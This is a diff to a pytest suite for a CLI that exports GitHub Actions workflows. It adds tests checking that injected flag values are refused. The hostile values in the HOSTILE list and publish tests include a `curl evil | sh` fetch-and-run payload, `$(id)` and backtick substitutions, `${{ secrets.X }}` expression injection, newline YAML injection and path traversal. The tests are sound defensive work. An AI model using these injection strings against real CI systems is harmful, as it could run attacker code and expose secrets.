@@ -243,7 +243,8 @@ def test_exported_workflow_passes_actionlint(tmp_path, schedules, name, extra):
         assert "repo:acme/interregion:ref:refs/heads/main" in text
         assert "gcloud storage rsync" in text
     else:
-        assert 'aws s3 sync "s3://acme-ir/site/results"' in text
+        assert doc["jobs"]["sweep"]["env"]["STATE_URL"] == "s3://acme-ir/site/results"
+        assert 'aws s3 sync "$STATE_URL" "$RESULTS"' in text
         assert "deploy-pages" in text
     always = [s["name"] for s in steps if s.get("if") == "always()" and "name" in s]
     assert "Tear down and reap" in always and "Save the ledger and sweeps back" in always
@@ -305,7 +306,7 @@ def test_export_needs_a_bucket_to_keep_results_in(tmp_path, schedules):
         (["install", "lat", "--no-enable", "--unit-dir"], "cannot write it"),
         (["install", "lat", "--cron", "--unit-dir"], "cannot write it"),
         (
-            ["export", "lat", "--repo", "o/n", "--state-bucket", "s3://b/p", "--github-actions"],
+            ["export", "lat", "--repo", "o/n", "--state-bucket", "s3://bkt/p", "--github-actions"],
             "--github-actions",
         ),
     ],
@@ -319,3 +320,90 @@ def test_a_place_that_cannot_be_written_is_one_line(tmp_path, schedules, args, w
     (line,) = result.stderr.strip().splitlines()
     assert line.startswith("error: ") and words in line and "cannot write it" in line
     assert blocker.read_text() == ""
+
+
+# ---- hostile values never reach the workflow's text -------------------------------------
+
+HOSTILE = [
+    ("--state-bucket", 's3://acme/x"; curl evil | sh; echo "'),
+    ("--state-bucket", "s3://acme/$(id)"),
+    ("--state-bucket", "gs://acme/`id`"),
+    ("--state-bucket", "s3://acme/${{ secrets.X }}"),
+    ("--state-bucket", "s3://ACME/x"),
+    ("--state-bucket", "s3://a/x"),
+    ("--state-bucket", "s3://acme/../x"),
+    ("--state-bucket", "s3://acme/x\nenv:\n  X: 1"),
+    ("--repo", "acme/ir\non: push"),
+    ("--repo", "acme/ir/x"),
+    ("--repo", "-acme/ir"),
+    ("--repo", "acme/.."),
+    ("--repo", "acme/ir'; id"),
+    ("--results", "r\nenv:"),
+    ("--results", "${{ github.token }}"),
+]
+
+
+@pytest.mark.parametrize(("flag", "value"), HOSTILE)
+def test_a_value_outside_its_grammar_never_reaches_the_workflow(tmp_path, schedules, flag, value):
+    workflow = tmp_path / "wf.yml"
+    args = {"--repo": "acme/ir", "--state-bucket": "s3://acme-ir/state", flag: value}
+    result = CliRunner().invoke(
+        main,
+        [
+            "schedule", "export", "lat", "--file", str(schedules),
+            "--github-actions", str(workflow), *[x for kv in args.items() for x in kv],
+        ],
+    )  # fmt: skip
+    assert result.exit_code == 2, result.output
+    (line,) = result.stderr.strip().splitlines()
+    assert line.startswith(f"error: {flag}") and "Traceback" not in result.output
+    assert not workflow.exists()
+
+
+@pytest.mark.parametrize("publish", ["s3://acme/$(id)", 's3://acme/x"; id; echo "'])
+def test_a_publish_bucket_outside_its_grammar_is_refused_in_the_profile(tmp_path, publish):
+    schedules = tmp_path / "schedules.yaml"
+    schedules.write_text(
+        "profiles:\n  p:\n    every: PT6H\n    tests: ping\n    budget_usd: 1\n"
+        f"    budget_usd_month: 5\n    site: site\n    publish: '{publish}'\n"
+    )
+    result = CliRunner().invoke(
+        main,
+        [
+            "schedule", "export", "p", "--file", str(schedules), "--repo", "acme/ir",
+            "--github-actions", str(tmp_path / "wf.yml"),
+        ],
+    )  # fmt: skip
+    assert result.exit_code == 2, result.output
+    assert "publish:" in result.stderr and "s3://BUCKET/PREFIX" in result.stderr
+    assert not (tmp_path / "wf.yml").exists()
+
+
+def test_odd_but_valid_values_reach_the_workflow_quoted_and_pass_actionlint(tmp_path, schedules):
+    """Values inside their grammars, with every character the grammars allow, reach the
+    run: lines through env only, and actionlint (with its shellcheck) finds nothing."""
+    workflow = tmp_path / "wf.yml"
+    bucket = "gs://acme_ir.x-1/a=b/c+d/e@f/g.h_i-j"
+    _cli(
+        "schedule", "export", "lat", "--file", str(schedules), "--repo", "a-b/x.y_z-1",
+        "--state-bucket", bucket + "/", "--results", "my results/$HOME 'x'",
+        "--github-actions", str(workflow),
+    )  # fmt: skip
+    done = subprocess.run(
+        [_actionlint(), "-no-color", str(workflow)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=tmp_path,
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    doc = yaml.safe_load(workflow.read_text())
+    env = doc["jobs"]["sweep"]["env"]
+    assert env == {
+        "RESULTS": "my results/$HOME 'x'",
+        "SCHEDULES": "schedules.yaml",
+        "STATE_URL": bucket,
+    }
+    runs = [s["run"] for s in doc["jobs"]["sweep"]["steps"] if "run" in s]
+    assert not any(bucket in run or "my results" in run for run in runs)
+    assert "repo:a-b/x.y_z-1:ref:refs/heads/main" in workflow.read_text()
